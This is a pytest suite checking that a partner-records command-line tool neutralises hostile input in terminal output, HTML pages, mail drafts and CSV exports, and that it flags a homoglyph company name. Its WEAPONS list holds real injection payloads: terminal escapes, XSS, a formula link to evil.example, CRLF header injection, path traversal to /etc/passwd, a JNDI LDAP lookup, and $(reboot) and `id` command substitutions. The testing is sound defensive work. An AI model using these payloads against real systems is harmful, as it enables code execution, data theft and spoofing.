"""What partners type as a weapon: on a terminal, in a page, a mail, a spreadsheet, a name of a file. None goes off."""

import re
import unicodedata
from email import message_from_bytes, policy
from pathlib import Path

import pytest

from tests.commands import Commands
from tests.exporting import csv_of
from tests.people import person
from tests.torture import homes

WEAPONS = [
    "\x1b]0;owned\x07\x1b[2J\x1b[1A",
    "Robert\u202egnp.exe",
    "</td><script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example","x")',
    "x\r\nBcc: all@evil.example\r\n\r\nHello",
    "../../../../etc/passwd\x00",
    "| a | [x](http://evil.example) `` ${jndi:ldap://evil} |",
    "{{ 7 * 7 }}{% raw %}%s%n$(reboot);`id`",
    "a\u200bb\u2066c\u2069\ufeff\u00ad",
    "\u2028\u2029\x85\x0b\x0c",
]
SAFE = [weapon.replace("\x00", "") for weapon in WEAPONS]  # NUL refuses a file


@pytest.fixture(scope="module")
def home(commands: Commands, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A night of companies and people that are called so, released."""
    folder = tmp_path_factory.mktemp("hostile")
    people = [
        person(weapon, f"p{n}@w{n}.example", Mailing_Street=weapon, Administrative_Privileges=weapon)
        | {"Account ID": str(n + 1), "Account Name": f"{weapon} {n}"}
        for n, weapon in enumerate(SAFE)
    ]
    (folder / "export.csv").write_bytes(csv_of(people))
    (folder / "next.csv").write_bytes(csv_of([one | {"Sales Badged": "True"} for one in people]))
    for words in ("nightly export.csv", "approve latest --all --by Jo", "release", "nightly next.csv"):
        called(commands, folder, words)
    return folder / "home"


def called(commands: Commands, folder: Path, words: str) -> tuple[str, str]:
    """Standard output and error of the command, as a terminal would get them."""
    done = commands.call(folder, *words.split(), PARTNER_CERTS_HOME=str(folder / "home"))
    assert done.returncode in (0, 4, 6), done.stderr
    return done.stdout, done.stderr


def test_a_terminal_gets_text_only(commands: Commands, home: Path) -> None:
    """No control sign, and none that turns the direction or can't be seen, but the ends of lines."""
    asked = ["runs", "show latest", "review --full", "review --account 1", "history 2", "contacts", "contacts check"]
    asked += ["draft --all --no-to", "overview", "workbook 3", "account 4 export.csv", "check next.csv"]
    for command in asked:
        for said in called(commands, home.parent, command):
            odd = {sign for sign in said if unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp") and sign != "\n"}
            assert not odd, (command, odd)
    assert homes.check(home, at_rest=True).ready


def test_a_page_shows_it_as_text(commands: Commands, home: Path) -> None:
    """Neither the record of a run nor the overview has an element or a script that partners wrote."""
    called(commands, home.parent, "overview")
    for page in [*home.glob("runs/*/review.html"), home / "overview.html"]:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        assert "<img src=x" not in text
        assert not re.search(r"\x1b|\x07", text)


def test_a_mail_has_the_headers_that_it_should_have(commands: Commands, home: Path) -> None:
    """A name with line ends makes no header, and none is left out for it."""
    called(commands, home.parent, "draft --all --no-to --again")
    drafts = list(home.glob("drafts/*.eml"))
    assert len(drafts) >= len(SAFE)
    for path in drafts:
        mail = message_from_bytes(path.read_bytes(), policy=policy.SMTP)
        assert {name.casefold() for name in mail} <= {
            *("x-unsent", "to", "subject", "mime-version", "content-type"),
        }
        assert "\n" not in str(mail["Subject"])


def test_a_spreadsheet_runs_none_of_it(home: Path) -> None:
    """Each cell that begins like a formula has its apostrophe, also in the workbook."""
    cells = [cell for path in home.glob("ready/*.csv") for cell in re.split(r'[,"\r\n]+', path.read_text("utf-8-sig"))]
    assert "'=HYPERLINK(" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]


def test_a_name_that_looks_like_anothers_is_said_at_every_door(commands: Commands, tmp_path: Path) -> None:
    """Where a report is asked for, decided and drafted; the other company is ready already."""
    known, alike = person("Ana", "a@one.example"), person("Bo", "b@two.example")
    known |= {"Account ID": "1", "Account Name": "CCCP Inc"}
    alike |= {"Account ID": "2", "Account Name": "СССР lnc"}
    (tmp_path / "first.csv").write_bytes(csv_of([known]))
    (tmp_path / "next.csv").write_bytes(csv_of([known, alike]))
    for words in ("nightly first.csv", "approve latest --all --by Jo", "release"):
        called(commands, tmp_path, words)
    text = "The name looks like that of CCCP Inc"
    assert text in called(commands, tmp_path, "account 2 next.csv")[0]
    called(commands, tmp_path, "nightly next.csv")
    assert text in called(commands, tmp_path, "review --account 2")[0]
    assert f"СССР lnc: {text}" in called(commands, tmp_path, "approve latest --account 2 --by Jo")[1]
    called(commands, tmp_path, "release")
    assert f"СССР lnc: {text}" in called(commands, tmp_path, "draft 2 --no-to")[1]
